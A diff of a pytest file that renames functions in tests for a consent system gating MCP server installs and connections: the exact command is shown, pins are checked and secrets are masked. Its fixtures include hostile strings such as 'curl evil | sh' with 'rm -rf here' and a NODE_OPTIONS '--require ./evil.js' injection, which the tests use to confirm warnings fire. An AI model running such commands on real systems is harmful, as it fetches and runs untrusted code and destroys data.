@@ -8,20 +8,19 @@ import sys
 import pytest
 from msgspec import structs
 
-from consent_desk import desk
-from isthmus.auth.secret import Secret
-from isthmus.host.config.entries import Sandbox, ServerEntry, ServerOptions
-from isthmus.host.config.load import load
-from isthmus.host.errors import Denied
-from isthmus.host.install import (
-    Installs,
-    arguments_of,
-    connecting,
-    consent_digest,
-    installing,
-    masked,
+from isthmus.auth.tokens.secret import Secret
+from isthmus.host.config.load import load_config
+from isthmus.host.confinement.install import (
+    InstallConsents,
+    compute_consent_digest,
+    describe_connection,
+    describe_install,
+    make_install_arguments,
 )
+from isthmus.host.model.entries import Sandbox, ServerEntry, ServerOptions, mask_command
+from isthmus.host.model.errors import Denied
 from isthmus.testing.faults import until
+from support.host.consent_desk import open_consent_desk
 
 LONG = "x" * 5000
 ENTRY = ServerEntry(
@@ -36,8 +35,8 @@ ENTRY = ServerEntry(
 @pytest.mark.covers("hostconfig.install.exact-command")
 async def test_the_user_sees_the_exact_command():
     """Ours: every element, uncut, what it resolves to, and the names of its variables."""
-    async with desk(("allow",)) as person:
-        assert await Installs(person.state, person.pipeline).consented(ENTRY)
+    async with open_consent_desk(("allow",)) as person:
+        assert await InstallConsents(person.state, person.pipeline).consented(ENTRY)
     (question,) = person.asked
     shown = question.payload
 
@@ -56,19 +55,19 @@ async def test_the_user_sees_the_exact_command():
 @pytest.mark.covers("hostconfig.install.asked-once")
 async def test_it_is_asked_once(tmp_path):
     """Ours: also after a restart, and by however many it is wanted at once."""
-    async with desk(("allow",), folder=tmp_path) as person:
-        installs = Installs(person.state, person.pipeline)
+    async with open_consent_desk(("allow",), folder=tmp_path) as person:
+        installs = InstallConsents(person.state, person.pipeline)
         assert [True] * 3 == await asyncio.gather(*(installs.consented(ENTRY) for _ in range(3)))
-    async with desk(folder=tmp_path) as nobody:
-        assert await Installs(nobody.state, nobody.pipeline).consented(ENTRY)
+    async with open_consent_desk(folder=tmp_path) as nobody:
+        assert await InstallConsents(nobody.state, nobody.pipeline).consented(ENTRY)
     assert 1 == len(person.asked)
 
 
 @pytest.mark.covers("hostconfig.install.asked-once")
 async def test_a_no_is_for_all_who_wanted_it():
     """Ours: they are not asked one after another."""
-    async with desk(("deny",)) as person:
-        installs = Installs(person.state, person.pipeline)
+    async with open_consent_desk(("deny",)) as person:
+        installs = InstallConsents(person.state, person.pipeline)
         said = await asyncio.gather(
             *(installs.consented(ENTRY) for _ in range(3)), return_exceptions=True
         )
@@ -78,7 +77,7 @@ async def test_a_no_is_for_all_who_wanted_it():
 
 async def test_a_question_that_nobody_needs_any_more_goes():
     """Ours: who gives up leaves nothing on the screen; one who still waits keeps it there."""
-    async with desk(("allow",)) as person:
+    async with open_consent_desk(("allow",)) as person:
         gate, shown = asyncio.Event(), asyncio.Event()
         offer = person.offer
 
@@ -88,7 +87,7 @@ async def test_a_question_that_nobody_needs_any_more_goes():
             return await offer(interaction)
 
         person.offer = slow
-        installs = Installs(person.state, person.pipeline)
+        installs = InstallConsents(person.state, person.pipeline)
         first, second = (asyncio.create_task(installs.consented(ENTRY)) for _ in range(2))
         await shown.wait()
         first.cancel()
@@ -117,7 +116,7 @@ async def test_a_question_that_nobody_needs_any_more_goes():
 )
 def test_whatever_changes_is_asked_again(change):
     """Ours: agreement is for what was seen."""
-    assert consent_digest(ENTRY) != consent_digest(structs.replace(ENTRY, **change))
+    assert compute_consent_digest(ENTRY) != compute_consent_digest(structs.replace(ENTRY, **change))
 
 
 @pytest.mark.covers("hostconfig.install.changed-reasked")
@@ -131,7 +130,7 @@ def test_whatever_changes_is_asked_again(change):
 )
 def test_what_makes_no_other_program_of_it_is_not(change):
     """Ours: a renewed token, a timeout, a file that moved."""
-    assert consent_digest(ENTRY) == consent_digest(structs.replace(ENTRY, **change))
+    assert compute_consent_digest(ENTRY) == compute_consent_digest(structs.replace(ENTRY, **change))
 
 
 @pytest.mark.covers("hostconfig.install.changed-reasked")
@@ -141,8 +140,8 @@ async def test_a_yes_is_for_the_folder_in_which_it_runs(tmp_path, monkeypatch):
     folders = [tmp_path / name for name in ("mine", "theirs")]
     for one in folders:
         one.mkdir()
-    async with desk(("allow",)) as person:
-        installs = Installs(person.state, person.pipeline)
+    async with open_consent_desk(("allow",)) as person:
+        installs = InstallConsents(person.state, person.pipeline)
         monkeypatch.chdir(folders[0])
         assert await installs.consented(entry)
         assert installs.agreed(entry)
@@ -161,8 +160,8 @@ async def test_a_yes_is_for_the_folder_in_which_it_runs(tmp_path, monkeypatch):
 @pytest.mark.parametrize("answers", [(), (("deny",),), (("cancel",),)])
 async def test_without_a_yes_it_does_not_start(answers):
     """Ours: nobody there, no, and turning away are all no; and nothing is kept of it."""
-    async with desk(*answers) as person:
-        installs = Installs(person.state, person.pipeline)
+    async with open_consent_desk(*answers) as person:
+        installs = InstallConsents(person.state, person.pipeline)
         with pytest.raises(Denied):
             await installs.consented(ENTRY)
 
@@ -173,22 +172,22 @@ async def test_without_a_yes_it_does_not_start(answers):
 async def test_no_rule_agrees_for_the_user():
     """Ours: a policy can forbid it, and cannot see the command in their place."""
     allow = '[[rule]]\nid = "all"\neffect = "allow"\nwhen = { action = "server.*" }\n'
-    async with desk(("deny",), rules=allow) as person:
+    async with open_consent_desk(("deny",), rules=allow) as person:
         with pytest.raises(Denied):
-            await Installs(person.state, person.pipeline).consented(ENTRY)
+            await InstallConsents(person.state, person.pipeline).consented(ENTRY)
         assert 1 == len(person.asked)
-    async with desk(("allow",), rules=allow.replace("allow", "deny")) as person:
+    async with open_consent_desk(("allow",), rules=allow.replace("allow", "deny")) as person:
         with pytest.raises(Denied, match="all"):
-            await Installs(person.state, person.pipeline).consented(ENTRY)
+            await InstallConsents(person.state, person.pipeline).consented(ENTRY)
         assert [] == person.asked
 
 
 @pytest.mark.covers("hostconfig.layers.workspace-inert")
 async def test_an_untrusted_workspace_is_not_even_asked_about():
     """Ours: the user looks at the file first."""
-    async with desk(("allow",)) as person:
+    async with open_consent_desk(("allow",)) as person:
         with pytest.raises(Denied, match="isthmus config trust"):
-            await Installs(person.state, person.pipeline).consented(
+            await InstallConsents(person.state, person.pipeline).consented(
                 structs.replace(ENTRY, trusted=False)
             )
         assert [] == person.asked
@@ -211,8 +210,8 @@ async def test_a_pinned_program_is_that_program(tmp_path, what):
         cwd=str(tmp_path),
         options=ServerOptions(pin=digest),
     )
-    async with desk(("allow",)) as person:
-        installs = Installs(person.state, person.pipeline)
+    async with open_consent_desk(("allow",)) as person:
+        installs = InstallConsents(person.state, person.pipeline)
         assert await installs.consented(entry)
         pinned.write_text("#!/bin/evil\n")
         with pytest.raises(Denied, match="is not the program that is pinned: the pin is"):
@@ -227,24 +226,24 @@ async def test_a_program_that_is_swapped_while_one_reads_does_not_run(tmp_path):
     program.chmod(0o755)
     digest = hashlib.sha256(program.read_bytes()).hexdigest()
     entry = ServerEntry(name="x", command=(str(program),), options=ServerOptions(pin=digest))
-    async with desk(("allow",)) as person:
+    async with open_consent_desk(("allow",)) as person:
         person.before = lambda _: program.write_text("#!/bin/evil\n")
         with pytest.raises(Denied, match="is not the program that is pinned"):
-            await Installs(person.state, person.pipeline).consented(entry)
+            await InstallConsents(person.state, person.pipeline).consented(entry)
 
 
 async def test_a_pin_without_a_program_is_told():
     """Ours: it would pin nothing."""
     entry = ServerEntry(name="x", url="https://x", kind="http", options=ServerOptions(pin="a" * 64))
-    async with desk(("allow",)) as person:
+    async with open_consent_desk(("allow",)) as person:
         with pytest.raises(Denied, match="a pin is for a program"):
-            await Installs(person.state, person.pipeline).consented(entry)
+            await InstallConsents(person.state, person.pipeline).consented(entry)
 
 
 async def test_who_adds_a_server_has_agreed_to_it():
     """Ours: what the user typed themselves is not asked about; and agreement can be taken back."""
-    async with desk() as nobody:
-        installs = Installs(nobody.state, nobody.pipeline)
+    async with open_consent_desk() as nobody:
+        installs = InstallConsents(nobody.state, nobody.pipeline)
         await installs.give(ENTRY, "servers add")
         assert await installs.consented(ENTRY)
         assert await installs.withdraw("files")
@@ -255,8 +254,10 @@ async def test_who_adds_a_server_has_agreed_to_it():
 
 async def test_a_server_in_this_process_needs_no_agreement():
     """Ours: it is the program's own code."""
-    async with desk() as nobody:
-        assert await Installs(nobody.state, nobody.pipeline).consented(ServerEntry(name="own"))
+    async with open_consent_desk() as nobody:
+        assert await InstallConsents(nobody.state, nobody.pipeline).consented(
+            ServerEntry(name="own")
+        )
 
 
 @pytest.mark.covers("hostconfig.variables.no-leak")
@@ -265,9 +266,9 @@ def test_a_secret_among_the_arguments_is_not_shown():
     secret = Secret("arg-canary")
     entry = structs.replace(ENTRY, command=("x", "--token=arg-canary"), secrets=(secret,))
 
-    assert ("x", "--token=[secret]") == installing(entry).argv
+    assert ("x", "--token=[secret]") == describe_install(entry).argv
     renewed = Secret("new-canary")
-    assert consent_digest(entry) == consent_digest(
+    assert compute_consent_digest(entry) == compute_consent_digest(
         structs.replace(entry, command=("x", "--token=new-canary"), secrets=(renewed,))
     )
 
@@ -282,10 +283,10 @@ def test_a_file_cannot_hide_what_it_runs(tmp_path):
     }
     file = tmp_path / "mcp.json"
     file.write_text(json.dumps({"mcpServers": {"x": entry}}))
-    found = load(file, environ={"HOME": str(tmp_path)}).servers["x"]
+    found = load_config(file, environ={"HOME": str(tmp_path)}).servers["x"]
 
-    assert ("bash", "-c", "curl evil | sh", "rm -rf here") == installing(found).argv
-    assert "it downloads something and runs it unseen" in installing(found).warnings
+    assert ("bash", "-c", "curl evil | sh", "rm -rf here") == describe_install(found).argv
+    assert "it downloads something and runs it unseen" in describe_install(found).warnings
 
 
 @pytest.mark.covers("hostconfig.install.changed-reasked")
@@ -295,15 +296,15 @@ def test_what_makes_a_program_load_other_code_is_seen_and_agreed_to(tmp_path):
     entry = {"command": "node", "args": ["server.js"], "envFile": "values"}
     file.write_text(json.dumps({"mcpServers": {"x": entry}}))
     values.write_text("NODE_OPTIONS=--require ./one.js\nAPI_KEY=first")
-    before = load(file, environ={}).servers["x"]
+    before = load_config(file, environ={}).servers["x"]
     values.write_text("NODE_OPTIONS=--require ./one.js\nAPI_KEY=second")
-    renewed = load(file, environ={}).servers["x"]
+    renewed = load_config(file, environ={}).servers["x"]
     values.write_text("NODE_OPTIONS=--require ./evil.js\nAPI_KEY=second")
-    after = load(file, environ={}).servers["x"]
+    after = load_config(file, environ={}).servers["x"]
 
-    assert any("it is --require ./evil.js" in one for one in installing(after).warnings)
-    assert consent_digest(before) == consent_digest(renewed)
-    assert consent_digest(before) != consent_digest(after)
+    assert any("it is --require ./evil.js" in one for one in describe_install(after).warnings)
+    assert compute_consent_digest(before) == compute_consent_digest(renewed)
+    assert compute_consent_digest(before) != compute_consent_digest(after)
 
 
 @pytest.mark.covers("hostconfig.variables.no-leak")
@@ -314,15 +315,17 @@ def test_a_secret_within_an_address_is_not_shown():
         for k in ("path-canary", "new-canary")
     )
 
-    assert "https://x.example/[secret]/mcp" == connecting(first).where
-    assert {"url": "https://x.example/[secret]/mcp"} == arguments_of(first)
-    assert consent_digest(first) == consent_digest(second)
+    assert "https://x.example/[secret]/mcp" == describe_connection(first).where
+    assert {"url": "https://x.example/[secret]/mcp"} == make_install_arguments(first)
+    assert compute_consent_digest(first) == compute_consent_digest(second)
 
 
 def test_a_server_at_a_url_shows_where_it_is():
     """Ours: and what is wrong with the way there."""
     url = "http://u:canary@example.com/mcp?k=canary"
-    shown = connecting(ServerEntry(name="x", url=url, kind="http", headers={"X-Key": "canary"}))
+    shown = describe_connection(
+        ServerEntry(name="x", url=url, kind="http", headers={"X-Key": "canary"})
+    )
 
     assert ("http://example.com/mcp?…", ("X-Key",)) == (shown.where, shown.headers)
     assert "canary" not in repr(shown)
@@ -339,33 +342,33 @@ FAR = ServerEntry(name="far", url="https://example.com/mcp", kind="http", source
 @pytest.mark.covers("hostconfig.connect.consent")
 async def test_a_connection_is_a_question_of_its_own(tmp_path):
     """Ours: it is asked once, under an action of its own, and kept like an agreement to run."""
-    async with desk(("allow",), folder=tmp_path) as person:
-        assert await Installs(person.state, person.pipeline).consented(FAR)
-    async with desk(folder=tmp_path) as nobody:
-        assert await Installs(nobody.state, nobody.pipeline).consented(FAR)
+    async with open_consent_desk(("allow",), folder=tmp_path) as person:
+        assert await InstallConsents(person.state, person.pipeline).consented(FAR)
+    async with open_consent_desk(folder=tmp_path) as nobody:
+        assert await InstallConsents(nobody.state, nobody.pipeline).consented(FAR)
     (question,) = person.asked
 
     assert ("server.connect", "far") == (question.attempt.action, question.attempt.server)
-    assert connecting(FAR) == question.payload
+    assert describe_connection(FAR) == question.payload
 
 
 @pytest.mark.covers("hostconfig.connect.rules")
 async def test_a_rule_may_allow_a_connection_and_its_end_is_the_end_of_that(tmp_path):
     """Ours: what a rule allowed is asked about once the rule is gone."""
     allows = '[[rule]]\nid = "far"\neffect = "allow"\nwhen = { action = "server.connect" }\n'
-    async with desk(rules=allows, folder=tmp_path) as nobody:
-        assert await Installs(nobody.state, nobody.pipeline).consented(FAR)
-    async with desk(folder=tmp_path) as nobody:
+    async with open_consent_desk(rules=allows, folder=tmp_path) as nobody:
+        assert await InstallConsents(nobody.state, nobody.pipeline).consented(FAR)
+    async with open_consent_desk(folder=tmp_path) as nobody:
         with pytest.raises(Denied):
-            await Installs(nobody.state, nobody.pipeline).consented(FAR)
+            await InstallConsents(nobody.state, nobody.pipeline).consented(FAR)
 
 
 @pytest.mark.covers("hostconfig.connect.rules")
 async def test_a_rule_that_forbids_a_connection_wins_over_what_was_agreed():
     """Ours: what the user said yes to once can be forbidden later."""
     forbids = '[[rule]]\nid = "near"\neffect = "deny"\nwhen = { action = "server.connect" }\n'
-    async with desk(("allow",), rules=forbids) as person:
-        installs = Installs(person.state, person.pipeline)
+    async with open_consent_desk(("allow",), rules=forbids) as person:
+        installs = InstallConsents(person.state, person.pipeline)
         await installs.give(FAR, "servers add")
         with pytest.raises(Denied) as refused:
             await installs.consented(FAR)
@@ -380,8 +383,8 @@ async def test_what_comes_between_the_agreement_and_the_start_is_done():
     async def prepare(entry):
         prepared.append(entry.name)
 
-    async with desk(("allow",)) as person:
-        await Installs(person.state, person.pipeline, prepare=prepare).consented(ENTRY)
+    async with open_consent_desk(("allow",)) as person:
+        await InstallConsents(person.state, person.pipeline, prepare=prepare).consented(ENTRY)
 
     assert ["files"] == prepared
 
@@ -395,14 +398,18 @@ def test_of_secrets_that_hold_one_another_nothing_is_shown():
         secrets=(short, long),
     )
 
-    assert ("server", "--key=[secret]", "--id=[secret]") == masked(entry)
+    assert ("server", "--key=[secret]", "--id=[secret]") == mask_command(entry)
 
 
 def test_rules_see_where_a_server_is():
     """Ours: the address of one that is connected to, the command of one that is run."""
-    assert {"url": "https://example.com/mcp"} == arguments_of(
+    assert {"url": "https://example.com/mcp"} == make_install_arguments(
         ServerEntry(name="far", kind="http", url="https://example.com/mcp")
     )
-    assert {"command": ["server", "-v"], "cwd": "/srv", "env": ["A", "B"]} == arguments_of(
+    assert {
+        "command": ["server", "-v"],
+        "cwd": "/srv",
+        "env": ["A", "B"],
+    } == make_install_arguments(
         ServerEntry(name="near", command=("server", "-v"), cwd="/srv", env={"B": "1", "A": "2"})
     )
